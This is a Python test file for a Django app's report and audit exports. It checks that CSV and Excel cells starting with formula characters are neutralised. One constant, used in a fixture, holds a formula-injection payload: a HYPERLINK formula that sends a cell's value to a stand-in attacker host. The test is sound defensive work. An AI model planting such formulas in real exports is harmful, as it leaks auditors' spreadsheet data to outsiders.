"""CSV/Excel formula injection: text from users never reaches a spreadsheet as a formula.

A region's free text (an agency name, a reason) starting with = + - @ would run as a formula
when an auditor opens the export in Excel or LibreOffice; exports prefix it with '.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from espm.exports import safe_cell, safe_row
from regions.models import Agency
from reporting.models import Report

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize("value", ["=1+1", "+62 812", "-2+3", "@SUM(A1)", "\t=x", "\r=x"])
def test_formula_like_text_is_prefixed(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Dinas Kesehatan", "", None, 12, -5, 3.5, "a=b"])
def test_other_values_are_untouched(value):
    assert safe_cell(value) == value


def test_safe_row_keeps_order():
    assert safe_row(["=a", 1, "b"]) == ["'=a", 1, "b"]


@pytest.fixture
def evil_agency(db):
    """A Klaten agency whose (user-editable) name is a formula, owning at least one report."""
    report = Report.objects.filter(region__code="33.10", agency__isnull=False).first()
    assert report is not None
    agency = Agency.objects.get(pk=report.agency_id)
    agency.short_name = PAYLOAD[:40]
    agency.save()
    return agency


def _cells_csv(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=",;")
    return [c for row in csv.reader(io.StringIO(text), dialect) for c in row]


def _cells_xlsx(content: bytes) -> list[object]:
    wb = load_workbook(io.BytesIO(content))
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_report_list_exports_neutralise_formulas(login, evil_agency):
    client = login("klaten.tapem")
    url = reverse("reporting:report_list")
    period = Report.objects.filter(agency=evil_agency).values_list("period_id", flat=True).first()
    csv_resp = client.get(url, {"export": "csv", "period": period})
    assert csv_resp.status_code == 200
    cells = _cells_csv(b"".join(csv_resp.streaming_content))
    assert any("HYPERLINK" in c for c in cells), "the export should contain the agency"
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    xlsx_resp = client.get(url, {"export": "xlsx", "period": period})
    assert xlsx_resp.status_code == 200
    values = [v for v in _cells_xlsx(xlsx_resp.content) if isinstance(v, str)]
    assert any("HYPERLINK" in v for v in values)
    assert not [v for v in values if v.startswith(("=", "+", "@"))]


def test_audit_export_neutralises_formulas(login, evil_agency):
    response = login("klaten.inspektorat").get(
        reverse("reporting:audit_trail_csv"), {"kind": "agency"}
    )
    cells = _cells_csv(b"".join(response.streaming_content))
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
